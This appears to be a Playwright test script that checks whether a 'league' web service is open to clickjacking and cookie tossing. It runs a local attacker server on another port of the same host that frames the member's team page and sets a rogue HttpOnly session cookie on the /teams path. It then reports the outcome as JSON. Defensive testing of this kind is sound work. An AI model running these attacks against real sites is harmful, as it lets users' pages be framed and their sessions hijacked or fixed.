// Two attacks by a page on another port of the same host, against a member signed in to the league:
// 1. framing: the attacker's page frames the member's team page (to have them click its buttons); beside it, the
//    attacker frames a page of its own, which shows that framing itself works here;
// 2. cookie tossing: the attacker's server sets its own session cookie for the team pages' path (by Set-Cookie: a
//    page's script may not shadow an HttpOnly cookie), so that the member's browser would send it before the member's
//    own, and then the member goes to their team page.
// Prints what each frame showed and where the member ended, as JSON.
// Usage: node framing.mjs <service origin> <team page path> <team name> <email> <password> <attacker's session cookie>
import {chromium} from 'playwright-core';
import http from 'node:http';

const [service, teamPage, teamName, email, password, attackerCookie] = process.argv.slice(2);
const attackerPage = `<!doctype html><title>Win a prize</title>
<iframe id="victim" src="${service}${teamPage}" width="800" height="600"></iframe>
<iframe id="own" src="/own" width="200" height="100"></iframe>`;
const tossingPage = '<!doctype html><title>Win another prize</title><p>tossed</p>';
const attacker = http.createServer((request, response) => {
  response.setHeader('Content-Type', 'text/html');
  if (request.url === '/toss') {
    response.setHeader('Set-Cookie', `admiralty-session=${attackerCookie}; Path=/teams; HttpOnly; SameSite=Lax`);
  }
  response.end(request.url === '/own' ? '<p>the attacker\'s own frame</p>'
      : request.url === '/toss' ? tossingPage : attackerPage);
});
await new Promise(listening => attacker.listen(0, '127.0.0.1', listening));
// the same host as the service, another port: cookies are shared between them, origins are not
const host = new URL(service).hostname;
const attackerOrigin = `http://${host}:${attacker.address().port}`;

const browser = await chromium.launch({executablePath: '/usr/bin/chromium', args: ['--no-sandbox']});
const seen = {console: [], frames: []};
let page;
try {
  const context = await browser.newContext();
  page = await context.newPage();
  page.on('console', message => seen.console.push(message.text()));
  await page.goto(`${service}/sign-in`);
  await page.fill('input[name=email]', email);
  await page.fill('input[name=password]', password);
  await Promise.all([page.waitForURL(/\/sign-in$/), page.click('form button[type=submit]')]);
  await page.goto(`${service}${teamPage}`);
  seen.teamPageAlone = await page.textContent('h1');

  await page.goto(`${attackerOrigin}/`, {waitUntil: 'load'});
  await page.frameLocator('#own').locator('p').waitFor();
  for (const frame of page.frames()) {
    if (frame === page.mainFrame()) {
      continue;
    }
    let text;
    try {
      text = await frame.evaluate(() => document.body ? document.body.innerText : '');
    } catch (unreadable) {
      text = `(unreadable: ${String(unreadable).split('\n')[0]})`;
    }
    seen.frames.push({name: frame.name(), url: frame.url(), text, showsTeam: text.includes(teamName)});
  }

  await page.goto(`${attackerOrigin}/toss`);
  seen.cookiesAfterTossing = (await context.cookies()).filter(c => c.name === 'admiralty-session')
      .map(c => c.path);
  const answer = await page.goto(`${service}${teamPage}`);
  // the team's public page offers a way to sign in to whoever is signed in as nobody, and to no one else
  seen.afterTossing = {status: answer.status(), url: page.url(), heading: await page.textContent('h1'),
    offersSignIn: await page.locator('main a[href="/sign-in"]').count() > 0};
  seen.cookiesAfterTheAnswer = (await context.cookies()).filter(c => c.name === 'admiralty-session')
      .map(c => c.path);
  console.log(JSON.stringify(seen));
} catch (failure) {
  console.log(JSON.stringify({failure: String(failure), at: page && page.url(), seen}));
  process.exitCode = 1;
} finally {
  await browser.close();
  attacker.close();
}
